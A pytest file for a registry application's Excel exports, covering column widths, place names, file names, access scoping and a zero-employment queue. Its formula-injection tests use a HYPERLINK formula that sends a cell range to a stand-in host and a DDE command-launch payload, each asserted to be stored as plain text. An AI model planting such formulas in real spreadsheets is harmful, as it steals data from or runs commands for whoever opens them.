"""Exports as officers open them: text never turned into formulas, places by name, a telling file
name, widths that fit, and the zero-employment queue."""

import datetime
import io
from urllib.parse import quote

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from bangfu.conftest import make_person
from bangfu.core.exports import Column, Export
from bangfu.core.filters import FilterSet
from bangfu.exchange import xlsx
from bangfu.registry.actions import do_create_household, do_record_follow_up, do_update_person

HYPERLINK = '=HYPERLINK("http://x.example/?"&TEXTJOIN(",",TRUE,B3:C40000),"更多")'


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _sheet(response):
    assert response.status_code == 200, response.content[:500]
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(min_row=2))
    headers = [cell.value for cell in rows[0]]
    return [dict(zip(headers, row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("text", [HYPERLINK, "+86 县城", "-1+1", "@SUM(A1)"])
def test_it_writes_formula_like_text_as_text(world, text):
    do_update_person(world.alice, world.person, {"employment_status": "in_county", "employer_name": text})
    rows = _rows(_sheet(_client(world.alice).get(reverse("export", args=["people"]), {"q": "zsf"})))
    cell = rows[0]["就业单位/地点"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_it_writes_text_after_a_tab_or_carriage_return_as_text(db):
    # The ledger's rules strip such text; the writer does not rely on them.
    texts = ["\t=1+1", "\r=cmd|' /C calc'!A0", "=1+1", "plain"]
    export = Export("t", "t", "perm", lambda user: None, FilterSet("t"), (Column("text", lambda text: text),))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.workbook(export, texts, "=caption"))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=3)]
    assert [(cell.value, cell.data_type) for cell in cells] == [(text, "s") for text in texts]
    assert sheet["A1"].data_type == "s"


def test_it_names_the_county_township_and_village(world, django_assert_max_num_queries):
    for seq in range(21, 31):
        make_person(world.admin, name="王", seq=seq, region_code="522633102001")
    client = _client(world.alice)
    # The names of all rows come in one query, not one per row.
    with django_assert_max_num_queries(12):
        response = client.get(reverse("export", args=["people"]))
    rows = {row["姓名"].value: row for row in _rows(_sheet(response))}
    places = {name: tuple(row[h].value for h in ("县（市、区）", "乡镇（街道）", "村（社区）", "所在村代码"))
              for name, row in rows.items()}
    assert places["张三丰"] == ("从江县", "丙妹镇", "大塘村", "522633101001")
    assert places["李四"] == places["王"] == ("从江县", "贯洞镇", "干团村", "522633102001")


def test_it_fits_the_columns_to_their_text(world):
    do_update_person(world.alice, world.person, {"employment_status": "in_county",
                                                 "employer_name": "黔东南州从江县城关镇扶贫车间制衣有限公司"})
    sheet = openpyxl.load_workbook(io.BytesIO(
        _client(world.alice).get(reverse("export", args=["people"])).content)).active
    headers = [cell.value for cell in sheet[2]]
    width = {header: sheet.column_dimensions[openpyxl.utils.get_column_letter(i)].width
             for i, header in enumerate(headers, start=1)}
    assert width["就业单位/地点"] >= 2 * 20            # twenty Chinese characters, two columns each
    assert width["性别"] < width["身份证号"] < width["就业单位/地点"]
    assert width["编号"] <= 10


def test_it_names_the_file_after_the_region_and_the_day(world):
    client, today = _client(world.alice), timezone.localdate().isoformat()
    response = client.get(reverse("export", args=["people"]))
    expected = quote(f"人员台账-从江县-{today}.xlsx")
    assert response["Content-Disposition"] == f"attachment; filename=\"people.xlsx\"; filename*=UTF-8''{expected}"
    response = client.get(reverse("export", args=["households"]), {"region": "522633101"})
    assert quote(f"家庭户台账-丙妹镇-{today}.xlsx") in response["Content-Disposition"]


def test_it_exports_the_zero_employment_queue_with_the_latest_follow_up(world):
    household = do_create_household(world.alice, {"region_code": "522633101001", "address": "大塘村 3 组"})
    make_person(world.admin, name="甲", seq=31, household=household, relationship="head")
    busy = do_create_household(world.alice, {"region_code": "522633101001"})
    make_person(world.admin, name="乙", seq=33, household=busy, employment_status="in_county")
    do_record_follow_up(world.alice, household, done_on=datetime.date(2026, 11, 2), action="contact", note="上门")
    do_record_follow_up(world.alice, household, done_on=datetime.date(2026, 11, 20), action="job_offered",
                        note="推荐至帮扶车间")
    rows = _rows(_sheet(_client(world.alice).get(reverse("export", args=["zero_employment"]))))
    assert [row["户编号"].value for row in rows] == [household.number]
    row = rows[0]
    assert (row["户主"].value, row["村（社区）"].value, row["最近跟进措施"].value, row["跟进说明"].value) == (
        "甲", "大塘村", "推荐岗位", "推荐至帮扶车间")
    assert row["最近跟进日期"].value.date() == datetime.date(2026, 11, 20)
    # Scoped like the queue: bob (another county) exports an empty list; a surveyor may not export.
    assert _rows(_sheet(_client(world.bob).get(reverse("export", args=["zero_employment"])))) == []
    assert _client(world.sam).get(reverse("export", args=["zero_employment"])).status_code == 403


def test_the_queue_page_links_its_export_with_its_filters(world):
    body = _client(world.alice).get(reverse("zero_employment"), {"region": "522633101"}).content.decode()
    assert reverse("export", args=["zero_employment"]) + "?region=522633101" in body
